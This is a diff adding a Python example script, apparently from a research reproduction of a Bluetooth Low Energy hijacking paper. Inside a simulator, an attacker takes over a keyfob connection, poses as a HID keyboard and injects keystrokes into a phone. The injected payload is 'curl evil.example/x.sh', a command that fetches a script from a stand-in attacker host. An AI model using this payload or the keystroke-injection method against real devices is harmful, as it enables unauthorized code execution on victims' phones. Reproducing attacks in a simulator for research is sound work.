@@ -1,0 +1,67 @@
+#!/usr/bin/env python3
+"""Scenario E demo: the paper's §IX future work, implemented.
+
+After hijacking the Slave role (Scenario B), the attacker announces an
+ATT structure change and exposes a HID-over-GATT keyboard profile; the
+unsuspecting Central then receives attacker-chosen keystrokes as input
+reports.
+
+Run:
+    python examples/keystroke_injection.py [seed]
+"""
+
+from __future__ import annotations
+
+import sys
+
+from repro import Attacker, Keyfob, Medium, Simulator, Smartphone, Topology
+from repro.core.scenarios import KeystrokeInjectionScenario
+from repro.core.scenarios.scenario_e import decode_reports
+
+PAYLOAD = "curl evil.example/x.sh\n"
+
+
+def main(seed: int = 66) -> int:
+    sim = Simulator(seed=seed)
+    topology = Topology.equilateral_triangle(("keyfob", "phone", "attacker"),
+                                             edge_m=2.0)
+    medium = Medium(sim, topology)
+
+    keyfob = Keyfob(sim, medium, "keyfob")
+    keyfob.ll.readvertise_on_disconnect = False
+    phone = Smartphone(sim, medium, "phone", interval=36)
+    attacker = Attacker(sim, medium, "attacker")
+
+    attacker.sniff_new_connections()
+    keyfob.power_on()
+    phone.connect_to(keyfob.address)
+    sim.run(until_us=1_200_000)
+    if not attacker.synchronized:
+        print("attacker failed to synchronise")
+        return 1
+
+    received: list[bytes] = []
+    phone.gatt.on_notification = lambda handle, value: received.append(value)
+
+    results = []
+    scenario = KeystrokeInjectionScenario(attacker, device_name="Keyboard")
+    scenario.run(on_done=results.append)
+    sim.run(until_us=10_000_000)
+    result = results[0]
+    print(f"hijack: {result.hijack.report.outcome.value} after "
+          f"{result.hijack.report.attempts} attempt(s); "
+          f"malicious keyboard live: {result.success}")
+    if not result.success:
+        return 1
+
+    scenario.type_text(PAYLOAD)
+    sim.run(until_us=25_000_000)
+    typed = decode_reports(received)
+    print(f"keystrokes received by the phone: {typed!r}")
+    print(f"phone still believes it is connected to the keyfob: "
+          f"{phone.is_connected}")
+    return 0 if typed == PAYLOAD else 1
+
+
+if __name__ == "__main__":
+    sys.exit(main(int(sys.argv[1]) if len(sys.argv) > 1 else 66))
